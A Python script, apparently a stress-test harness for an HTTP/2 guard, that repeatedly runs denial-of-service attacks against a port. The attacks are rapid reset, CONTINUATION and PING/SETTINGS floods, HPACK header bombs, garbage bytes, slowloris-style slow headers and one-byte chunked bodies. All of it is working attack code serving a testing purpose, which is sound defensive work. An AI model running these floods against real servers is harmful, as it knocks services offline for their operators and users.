"""Clients that mean harm, over and over for a time: PORT NAME SECONDS. A program beside the one that measures."""

from __future__ import annotations

import random
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path

import trio

sys.path.insert(0, str(Path(__file__).parent.parent / "guard"))

from guard_client import HELLO, Peer, RawH2Peer
from guard_faults import headers_frame
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

FIELDS = [
    (b":method", b"POST"),
    (b":path", b"/v1/chat/completions"),
    (b":scheme", b"http"),
    (b":authority", b"x"),
    (b"content-type", b"application/json"),
]


async def _send_all(port: int, parts: list[bytes]) -> None:
    peer = await RawH2Peer.connect(port)
    await peer.send(HELLO)
    for part in parts:
        await peer.send(part)
        await peer.pump(lambda: False, 0.001)
        if peer.gone or peer.goaway_code is not None:
            break
    await peer.finish()


def _resets() -> list[bytes]:
    frames = []
    for n in range(10_000):
        reset = RstStreamFrame(2 * n + 1, error_code=8).serialize()
        frames.append(headers_frame(2 * n + 1, *FIELDS) + reset)
    return [b"".join(frames[n : n + 100]) for n in range(0, 10_000, 100)]


def _bombs() -> list[bytes]:
    encoder = Encoder()
    never = [(name, value, True) for name, value in FIELDS]  # not put into the table
    first = encoder.encode([*never, (b"x", b"x" * 4000)], huffman=False)
    again = encoder.encode([*never, (b"x", b"x" * 4000)], huffman=False)

    def frame(stream_id: int, block: bytes) -> bytes:
        made = HeadersFrame(stream_id, data=block)
        made.flags |= {"END_HEADERS", "END_STREAM"}
        return made.serialize()

    return [frame(1, first), *[frame(n, again + again[-1:] * 16000) for n in range(3, 41, 2)]]


RESETS, BOMBS = _resets(), _bombs()


async def rapid_reset(port: int) -> None:
    await _send_all(port, RESETS)


async def continuations(port: int) -> None:
    block = ContinuationFrame(1, data=bytes(16384)).serialize()
    await _send_all(port, [HeadersFrame(1, data=b"\x82").serialize(), *[block] * 60])


async def pings(port: int) -> None:
    await _send_all(port, [PingFrame(0, opaque_data=b"12345678").serialize() * 1000] * 20)


async def settings(port: int) -> None:
    await _send_all(port, [SettingsFrame(0, settings={4: 1000 + n}).serialize() * 100 for n in range(100)])


async def bombs(port: int) -> None:
    await _send_all(port, BOMBS)


async def garbage(port: int) -> None:
    peer = await Peer.connect(port)
    await peer.send(random.randbytes(3000))
    await peer.finish()


async def slow_headers(port: int) -> None:
    """A thousand connections that send a byte every now and then."""
    peers = [await Peer.connect(port) for _ in range(1000)]
    for peer in peers:
        await peer.send(b"GET /health HTTP/1.1\r\nX: ")
    for _ in range(5):
        for peer in peers:
            await peer.send(b"a")
            await trio.sleep(0.0005)
    for peer in peers:
        await peer.finish()


async def slow_bodies(port: int) -> None:
    """A body in chunks of one byte each."""
    peer = await Peer.connect(port)
    fields = ("Content-Type: application/json", "Transfer-Encoding: chunked")
    await peer.get("/v1/chat/completions", *fields, method="POST")
    for _ in range(50):
        await peer.send(b"1\r\na\r\n" * 100)
        await trio.sleep(0.002)
    await peer.finish()


ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
    f.__name__: f for f in (rapid_reset, continuations, pings, settings, bombs, garbage, slow_headers, slow_bodies)
}


async def main(port: int, name: str, seconds: float) -> None:
    async def over_and_over() -> None:
        while True:
            try:
                await ATTACKS[name](port)
            except OSError:
                await trio.sleep(0.01)

    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for _ in range(1 if name == "slow_headers" else 4):
                nursery.start_soon(over_and_over)


if __name__ == "__main__":
    trio.run(main, int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))
